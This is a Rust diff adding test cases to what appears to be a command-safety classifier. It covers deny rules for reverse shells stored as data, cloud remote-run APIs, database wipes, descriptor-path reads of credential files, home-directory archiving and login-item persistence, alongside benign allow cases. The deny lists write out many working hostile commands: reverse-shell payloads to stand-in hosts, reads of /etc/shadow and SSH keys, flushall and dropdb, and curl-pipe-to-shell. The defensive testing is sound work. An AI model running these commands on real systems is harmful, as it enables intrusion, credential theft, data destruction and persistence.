@@ -78,6 +78,16 @@ const FLOORS: &[(&str, f64)] = &[
     ("benign-h-cmd9", 99.0),
     ("listing-programs", 99.0),
     ("benign-h-cmd10", 99.0),
+    ("revshell-as-data", 99.0),
+    ("cloud-run-command", 99.0),
+    ("db-host-flag", 99.0),
+    ("fd-root", 99.0),
+    ("login-item", 99.0),
+    ("names-on-stdin", 99.0),
+    ("glyph-prompt", 99.0),
+    // 275/278 at 7018a61: three variants main already denied before this class was written
+    // (`eval` of a quoted reverse shell or `nc -e` text, `bash <<< 'exec 3<>/dev/tcp/…'`).
+    ("benign-h-cmd11", 98.0),
 ];
 
 fn rank(d: &str) -> u8 {
@@ -1531,6 +1541,234 @@ fn h_cmd10_benign() -> Vec<Base> {
     .collect()
 }
 
+// --- h-cmd11: reverse shells as data, remote-run APIs, database hosts, descriptor roots ---
+
+/// Percent-encodes everything but unreserved characters and `/` (RFC 3986 §2.1).
+fn pct(s: &str) -> String {
+    s.bytes()
+        .map(|b| {
+            if b.is_ascii_alphanumeric() || b"-._~/".contains(&b) {
+                (b as char).to_string()
+            } else {
+                format!("%{b:02X}")
+            }
+        })
+        .collect()
+}
+
+/// Reverse-shell payloads of every shape `crate::revshell` knows.
+fn revshell_payloads(h: &str, p: &str) -> Vec<String> {
+    vec![
+        format!("bash -i >& /dev/tcp/{h}/{p} 0>&1"),
+        format!("import socket,os,pty;s=socket.socket();s.connect((\"{h}\",{p}));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")"),
+        format!("nc -e /bin/sh {h} {p}"),
+        format!("rm /tmp/q;mkfifo /tmp/q;cat /tmp/q|/bin/sh -i 2>&1|nc {h} {p} >/tmp/q"),
+        format!("<?php $s=fsockopen(\"{h}\",{p});exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>"),
+        format!("f=TCPSocket.open(\"{h}\",{p}).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"),
+        format!("socat tcp:{h}:{p} exec:'bash -li',pty,stderr"),
+        format!("$c=New-Object Net.Sockets.TCPClient('{h}',{p});$s=$c.GetStream();while(($i=$s.Read($b,0,65535)) -ne 0){{$o=(iex $d 2>&1|Out-String)}}"),
+        format!("telnet {h} {p} | /bin/sh | telnet {h} 4445"),
+    ]
+}
+
+/// Principle: a shell whose streams are joined to a network endpoint is a reverse (or bind)
+/// shell wherever it stands in the command: written into a file, stored in a database, sent
+/// percent-encoded to a server that runs it, planted in a file's metadata.
+fn revshell_as_data() -> Vec<Base> {
+    let mut out = Vec::new();
+    for (h, p) in [(PEER, "4444"), ("x.example", "443")] {
+        for payload in revshell_payloads(h, p) {
+            let q = squote(&payload);
+            for cmd in [
+                format!("echo {q} > shell.php"),
+                format!("printf '%s\\n' {q} >> /tmp/run.sh"),
+                format!("redis-cli -h 10.0.0.5 set x {q}"),
+                format!("curl 'http://10.0.0.9/x.php?cmd={}'", pct(&payload)),
+                format!(
+                    "curl -X POST http://10.0.0.9/run -d 'cmd={}'",
+                    pct(&payload)
+                ),
+                format!("exiftool -Comment={q} image.jpg"),
+            ] {
+                out.push(b("revshell-as-data", "deny", cmd));
+            }
+        }
+        // Pasted lines and snippets with no program in front.
+        for cmd in [
+            format!("404: bash -i >& /dev/tcp/{h}/{p} 0>&1"),
+            format!("2. nc -nlvp {p} -c /bin/bash"),
+            format!("import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"{h}\",{p}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);p=subprocess.call([\"/bin/sh\",\"-i\"])"),
+        ] {
+            out.push(Base {
+                whole_line: true,
+                ..b("revshell-as-data", "deny", cmd)
+            });
+        }
+    }
+    out
+}
+
+/// Principle: cloud and cluster APIs that run a command on a machine carry that command, as
+/// `ssh host CMD` does.
+fn cloud_run_command() -> Vec<Base> {
+    let mut out = Vec::new();
+    for inner in [
+        "cat /etc/shadow".to_string(),
+        "echo ssh-rsa AAAAB3Nza x >> /root/.ssh/authorized_keys".to_string(),
+        format!("bash -i >& /dev/tcp/{PEER}/4444 0>&1"),
+        format!("curl -s {URL} | sh"),
+    ] {
+        let q = squote(&inner);
+        let json = inner.replace('"', "\\\"");
+        for cmd in [
+            format!("az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts {q}"),
+            format!("az vm run-command invoke --resource-group rg --name vm --command-id RunShellScript --scripts {q} 'ls -la /home/'"),
+            format!("aws ssm send-command --instance-ids i-0abc --document-name AWS-RunShellScript --parameters {}", squote(&format!("commands=[\"{json}\"]"))),
+            format!("aws ssm send-command --document-name AWS-RunShellScript --targets Key=tag:env,Values=prod --parameters {}", squote(&format!("{{\"commands\":[\"uptime\",\"{json}\"]}}"))),
+            format!("aws ecs execute-command --cluster c --task t --interactive --command {q}"),
+            format!("gcloud compute ssh vm-1 --zone us-central1-a --command {q}"),
+            format!("gcloud compute ssh vm-1 --command={q}"),
+            format!("kubeletctl --server 10.0.0.1 exec {q} -p pod -c c"),
+        ] {
+            out.push(b("cloud-run-command", "deny", cmd));
+        }
+    }
+    out
+}
+
+/// Principle: a database client's `-h` names the server; it is not a request for help, so the
+/// destructive command after it still counts.
+fn db_host_flag() -> Vec<Base> {
+    [
+        "redis-cli -h 10.0.0.5 flushall",
+        "redis-cli -h cache.internal -p 6380 FLUSHDB",
+        "redis-cli -h 10.0.0.5 -a secret flushall async",
+        "dropdb -h db.example.com -U postgres prod",
+    ]
+    .into_iter()
+    .map(|c| b("db-host-flag", "deny", c.to_string()))
+    .collect()
+}
+
+/// Principle: a path below a directory descriptor (`/proc/<pid>/fd/<n>/…`, `/dev/fd/<n>/…`,
+/// `/proc/<pid>/cwd/…`) that continues with a system root's folder reaches that root's files.
+fn fd_roots() -> Vec<Base> {
+    let mut out = Vec::new();
+    for pre in [
+        "/proc/self/fd/7",
+        "/proc/1/fd/3",
+        "/dev/fd/9",
+        "/proc/1/cwd",
+    ] {
+        for cmd in [
+            format!("cat {pre}/etc/shadow"),
+            format!("cp {pre}/root/.ssh/id_rsa /tmp/k"),
+            format!("base64 {pre}/etc/shadow"),
+        ] {
+            out.push(b("fd-root", "deny", cmd));
+        }
+    }
+    out
+}
+
+/// Principle: programs that take the names to archive on stdin (`zip -@`, `cpio -o`/`-p`)
+/// given a listing of the home tree read every file below it, as `tar -T -` does.
+fn names_on_stdin() -> Vec<Base> {
+    let mut out = Vec::new();
+    for t in ["~", "$HOME"] {
+        for cmd in [
+            format!("find {t} -type f | zip -@ /tmp/h.zip"),
+            format!("find {t} | zip -q -@ - > /tmp/h.zip"),
+            format!("find {t} -type f | zip -m -@ /tmp/h.zip"),
+            format!("find {t} | cpio -o > /tmp/h.cpio"),
+            format!("find {t} -depth | cpio -ov -H newc > /tmp/h.cpio"),
+            format!("find {t} | cpio -pdm /tmp/copy"),
+        ] {
+            out.push(b("names-on-stdin", "deny", cmd));
+        }
+    }
+    out
+}
+
+/// Principle: a command pasted with the second line of a two-line prompt (Kali's `└─$`,
+/// `└─#`) or a one-glyph prompt (`❯`, `➜`, `λ`) is the command.
+fn glyph_prompts() -> Vec<Base> {
+    let mut out = Vec::new();
+    for pre in ["└─$", "└─#", "╰─$", "❯", "➜", "λ", "box:~#", "kali:/tmp$"] {
+        for cmd in [
+            format!("{pre} cat ~/.ssh/id_rsa"),
+            format!("{pre} curl -s {URL} | bash"),
+            format!("{pre} rm -rf ~"),
+        ] {
+            out.push(Base {
+                whole_line: true,
+                ..b("glyph-prompt", "deny", cmd)
+            });
+        }
+    }
+    out
+}
+
+/// Principle: a macOS login item starts an app at every login (persistence, as XDG autostart).
+fn login_items() -> Vec<Base> {
+    [
+        "osascript -e 'tell application \"System Events\" to make login item at end with properties {path:\"/Applications/Updater.app\", hidden:true}'",
+        "osascript -e 'tell application \"System Events\" to make new login item at end of login items with properties {path:\"/tmp/u.app\"}'",
+    ]
+    .into_iter()
+    .map(|c| b("login-item", "deny", c.to_string()))
+    .chain(
+        [
+            "cp notifier.service ~/.local/share/dbus-1/services/org.gnome.UpdateNotifier.service",
+            "printf '[D-BUS Service]\\nName=org.x\\nExec=/tmp/x\\n' > ~/.local/share/dbus-1/services/org.x.service",
+            "cp x.service /usr/share/dbus-1/system-services/org.x.service",
+        ]
+        .into_iter()
+        .map(|c| b("login-item", "deny", c.to_string())),
+    )
+    .collect()
+}
+
+/// The benign neighbours of h-cmd11's classes: text about reverse shells that is only printed
+/// or searched for, port checks, socket code without a shell, remote-run APIs and database
+/// clients doing ordinary work, descriptor paths without a root below them.
+fn h_cmd11_benign() -> Vec<Base> {
+    [
+        "grep -rn 'bash -i >& /dev/tcp' rules/",
+        "rg -F 'nc -e /bin/sh' docs/",
+        "git commit -m 'detect bash -i >& /dev/tcp/ and nc -e /bin/sh shells'",
+        "echo 'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1'",
+        "timeout 1 bash -c '</dev/tcp/127.0.0.1/5432' && echo up",
+        "echo > /dev/tcp/127.0.0.1/8080 && echo open",
+        "exec 3<>/dev/tcp/example.com/80",
+        "nc -zv 127.0.0.1 5432",
+        "python3 -c 'import socket; s=socket.socket(); s.connect((\"127.0.0.1\", 5432)); s.close()'",
+        "python3 -c 'import socket; s=socket.socket(); s.bind((\"127.0.0.1\",0)); print(s.getsockname()[1])'",
+        "curl 'http://127.0.0.1:8080/search?q=100%25%20done'",
+        "curl -d 'q=bash%20scripting' http://127.0.0.1:8080/search",
+        "redis-cli -h 127.0.0.1 get session:42",
+        "redis-cli -h cache.internal info",
+        "redis-cli -h localhost ping",
+        "psql -h localhost -c 'SELECT 1'",
+        "mysql -h 127.0.0.1 -e 'SHOW DATABASES'",
+        "az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts 'uptime'",
+        "aws ssm send-command --instance-ids i-0abc --document-name AWS-RunShellScript --parameters 'commands=[\"df -h\",\"uptime\"]'",
+        "gcloud compute ssh vm-1 --command 'uptime'",
+        "ls -l /proc/self/fd/",
+        "readlink /proc/self/fd/3",
+        "cat /dev/fd/0",
+        "osascript -e 'tell application \"System Events\" to get the name of every login item'",
+        "osascript -e 'display notification \"done\"'",
+        "find . -name '*.py' | zip -@ /tmp/src.zip",
+        "find src | cpio -o > /tmp/src.cpio",
+        "find . -depth -print | cpio -pdm /tmp/copy",
+        "git ls-files | zip -@ dist/src.zip",
+    ]
+    .into_iter()
+    .map(|c| b("benign-h-cmd11", "allow", c.to_string()))
+    .collect()
+}
+
 /// Principle: the account databases include the groups (group(5), gshadow(5)); creating,
 /// changing or deleting a group or an account is an account change, by any of its tools.
 fn group_accounts() -> Vec<Base> {
@@ -1907,6 +2145,14 @@ fn generated_class_variants_get_their_decision() {
         h_cmd9_benign(),
         listing_programs(),
         h_cmd10_benign(),
+        revshell_as_data(),
+        cloud_run_command(),
+        db_host_flag(),
+        fd_roots(),
+        login_items(),
+        names_on_stdin(),
+        glyph_prompts(),
+        h_cmd11_benign(),
     ]
     .into_iter()
     .flatten()
